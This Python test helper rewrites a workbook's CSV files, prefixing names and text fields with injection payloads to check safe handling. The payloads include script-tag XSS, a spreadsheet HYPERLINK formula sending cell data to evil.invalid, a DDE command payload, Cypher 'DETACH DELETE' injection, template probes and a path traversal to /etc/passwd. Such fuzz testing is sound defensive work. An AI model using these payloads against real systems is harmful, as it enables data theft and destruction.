"""Names and texts that something might take for more than text, put before the names of a mapping workbook."""

import csv
from itertools import cycle
from pathlib import Path

#: Without a semicolon, which parts the names of a list.
NASTY = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=1+1",
    "\u202egnp.exe",
    "\u200b\u200d\ufeff",
    "\x1b[31m\x1b]0;pwned\x07\x9b2J",
    "[bold red]x[/bold red] [link=http://evil.invalid]y[/link] [/]",
    "') DETACH DELETE n //",
    '"}) MATCH (x) DETACH DELETE x //',
    "`DROP` {{7*7}} ${7*7} #{7*7} %s {0}",
    "\U0001f600\U0001f3f3\ufe0f\u200d\U0001f308",
    "word " * 60,
    "]]></script></svg><!--",
    "javascript:window.pwned=1",
    "\\u003cscript\\u003e \\",
    "| a | b | [x](javascript:window.pwned=1) ![y](http://evil.invalid/z)",
    "CON \ud83d",
    "../../../etc/passwd",
)
#: What may be read as markup, an address or a formula, in the columns of free text.
TEXTS = ("description", "reason", "criteria", "text", "evidence", "decided_by", "owner", "statement", "remark")
ADDRESSES = ("website", "url", "term_uri")
ADDRESS = "javascript:window.pwned=1"


def nasty() -> list[str]:
    """All of them as a file in UTF-8 can hold them."""
    return [text.encode("utf-8", "replace").decode() for text in NASTY]


def spoilt(source: Path, target: Path) -> int:
    """Afterwards the target holds the CSV files of the source with nasty names; how many names and texts are."""
    target.mkdir(parents=True)
    turn = cycle(nasty())
    given: dict[str, str] = {}
    count = 0
    for path in sorted(source.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
        head = rows[0]
        for row in rows[1:] if path.stem != "This round" else ():
            for place, heading in enumerate(head):
                if (heading == "name" and "id" in head) or (heading in TEXTS and row[place]):
                    key = f"{row[head.index('id')]}/{heading}" if "id" in head else row[place]
                    given.setdefault(key, next(turn))
                    row[place] = f"{given[key]} {row[place]}"
                    count += 1
                elif heading in ADDRESSES and row[place]:
                    row[place] = ADDRESS
        with (target / path.name).open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows(rows)
    return count
